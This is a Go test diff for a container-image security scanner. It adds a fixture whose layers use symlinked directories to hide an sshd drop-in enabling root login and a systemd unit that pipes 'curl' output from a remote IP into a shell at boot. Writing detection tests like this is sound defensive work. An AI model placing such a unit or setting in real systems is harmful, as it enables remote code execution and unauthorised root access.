@@ -1,6 +1,7 @@
 package rules
 
 import (
+	"archive/tar"
 	"testing"
 
 	v1 "github.com/google/go-containerregistry/pkg/v1"
@@ -134,5 +135,19 @@ func variantImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "kernel-module-loaded-at-start", path: "/etc/systemd/system/udev-helper.service", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/systemd/system/udev-helper.service", layer: 1})
 
+	// sshd's configuration and an account written through symlinked
+	// parents (a lower layer links /etc/ssh to /opt/sshcfg, and passwd's
+	// directory): sshd reads /etc/ssh/sshd_config and its drop-ins all the
+	// same, in the same order, and login reads /etc/passwd. A unit written
+	// as lib/systemd/system in a merged-/usr image is judged where it
+	// lands.
+	add("test/v-link-parent", nil, []v1.Layer{
+		layerOf(t, ent{name: "opt/sshcfg/", typ: tar.TypeDir}, ent{name: "etc/ssh", typ: tar.TypeSymlink, link: "/opt/sshcfg"},
+			ent{name: "lib", typ: tar.TypeSymlink, link: "usr/lib"}, ent{name: "usr/lib/", typ: tar.TypeDir}),
+		layerOf(t, ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n"},
+			ent{name: "etc/ssh/sshd_config.d/00-x.conf", body: "PermitRootLogin yes\n"},
+			ent{name: "lib/systemd/system/netd.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.30/n | sh'\n"}),
+	}, hit{rule: "sshd-weak-authentication", path: "/opt/sshcfg/sshd_config.d/00-x.conf", layer: 2},
+		hit{rule: "autostart-fetches-code", path: "/usr/lib/systemd/system/netd.service", layer: 2})
 	return out
 }
